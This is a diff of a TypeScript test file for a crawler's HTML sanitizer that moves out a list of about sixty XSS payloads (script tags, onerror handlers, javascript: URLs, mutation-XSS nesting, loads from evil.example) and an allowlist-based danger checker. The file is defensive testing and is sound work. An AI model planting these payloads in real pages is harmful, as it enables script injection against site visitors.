@@ -1,9 +1,10 @@
 import fc from 'fast-check';
-import { Parser } from 'htmlparser2';
 import t from 'tap';
 import { sanitizeTidy } from '../../crawler/sanitize/tidy.ts';
 import { plainText, sanitizeArticle, sanitizeUntidy } from '../../crawler/sanitize.ts';
 import { cpuMs } from './parse/cpu-time.ts';
+import { ATTACKS } from './sanitize/attacks.ts';
+import { dangers } from './sanitize/dangers.ts';
 
 const BASE = 'https://site.example/posts/1';
 const seed = Number(process.env.FEEDFERRY_TEST_SEED ?? Date.now() % 2 ** 31);
@@ -105,69 +106,6 @@ t.test('without a base, relative links lose their address', async (t) => {
   );
 });
 
-/** From the OWASP filter evasion cheat sheet, html5sec.org, and advisories against sanitizers. */
-const ATTACKS: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<<script>alert(1);//<</script>',
-  '<script/xss src="http://evil.example/x.js"></script>',
-  '<img src=x onerror=alert(1)>',
-  '<img src=x onerror\n=alert(1)>',
-  '<img/src="x"/onerror=alert(1)//',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<img src="javascript:alert(1)">',
-  '<img src="jav&#x09;ascript:alert(1)">',
-  '<img src=" &#14;  javascript:alert(1)">',
-  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="\u0001javascript:alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="mailto:x@y.example?body=<script>alert(1)</script>">x</a>',
-  '<a href=x onclick=alert(1)>x</a>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe src="https://www.youtube.com.evil.example/x"></iframe>',
-  '<iframe><img src=x onerror=alert(1)></iframe>',
-  '<iframe src="https://www.youtube.com/embed/x" title="<img src=x onerror=alert(1)>"></iframe>',
-  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
-  '<base href="javascript:alert(1)//"><a href="x">y</a>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel=stylesheet href="javascript:alert(1)">',
-  '<style>@import "http://evil.example/x.css";</style>',
-  '<div style="background:url(javascript:alert(1))">x</div>',
-  '<body onload=alert(1)>x',
-  '<video><source onerror="alert(1)"></video><video poster="javascript:alert(1)">',
-  '<audio src=x onerror=alert(1)>',
-  '<details open ontoggle=alert(1)>x',
-  '<input autofocus onfocus=alert(1)>',
-  '<select><option><script>alert(1)</script></option></select>',
-  '<template><script>alert(1)</script></template>',
-  '<p title="\'><img src=x onerror=alert(1)>">x</p>',
-  '<q cite="javascript:alert(1)">x</q><blockquote cite="data:x">y</blockquote>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<?xml <img src=x onerror=alert(1)>?>',
-  '</p onclick=alert(1)><x:script>alert(1)</x:script>',
-  '\0<scr\0ipt>alert(1)</scr\0ipt>',
-  '<a href="https://x.example/" target="_self" rel="opener">x</a>',
-];
-
 t.test('known attacks come out harmless', async (t) => {
   for (const html of ATTACKS) t.strictSame(dangers(sanitizeArticle(html, BASE)), [], html);
 });
@@ -176,35 +114,6 @@ t.test('the check for dangers sees them where they are', async (t) => {
   const seen = ATTACKS.filter((html) => dangers(html).length > 0);
   t.ok(seen.length > ATTACKS.length * 0.8, `${seen.length} of ${ATTACKS.length} attacks are seen unsanitized`);
 });
-
-const ALLOWED_TAGS =
-  /^(?:a|abbr|b|blockquote|br|code|div|em|figure|h[1-6]|hr|i|img|li|ol|p|pre|q|s|span|strong|sub|sup|table|tbody|td|th|thead|tr|u|ul|audio|video|source|picture|details|summary|small|del|ins|cite|section|article|time|mark|dl|dt|dd|figcaption|caption|center)$/;
-const ALLOWED_ATTRIBUTES =
-  /^(?:href|src|srcset|sizes|alt|title|width|height|loading|referrerpolicy|rel|target|controls|preload|poster|cite|dir|lang|type|media|datetime|colspan|rowspan|scope|span|start|reversed|value|open)$/;
-const URL_ATTRIBUTES = /^(?:href|src|poster|cite)$/;
-
-/** What could run, load or track in a browser that shows this. */
-function dangers(html: string): string[] {
-  const found: string[] = [];
-  const parser = new Parser({
-    onopentag(name, attributes) {
-      if (!ALLOWED_TAGS.test(name)) found.push(`<${name}>`);
-      for (const [key, value] of Object.entries(attributes)) {
-        if (!ALLOWED_ATTRIBUTES.test(key)) found.push(key);
-        if (URL_ATTRIBUTES.test(key) && !/^(?:https?:\/\/|mailto:)/.test(value)) found.push(`${key}=${value}`);
-        if (key === 'srcset' && !value.split(', ').every((part) => /^https?:\/\//.test(part)))
-          found.push(`srcset=${value}`);
-        if (key === 'target' && value !== '_blank') found.push(`target=${value}`);
-        if (key === 'rel' && value !== 'noopener noreferrer') found.push(`rel=${value}`);
-      }
-    },
-    oncomment: () => found.push('comment'),
-    onprocessinginstruction: () => found.push('instruction'),
-  });
-  parser.write(html);
-  parser.end();
-  return found;
-}
 
 const PIECES = [
   ...ATTACKS,
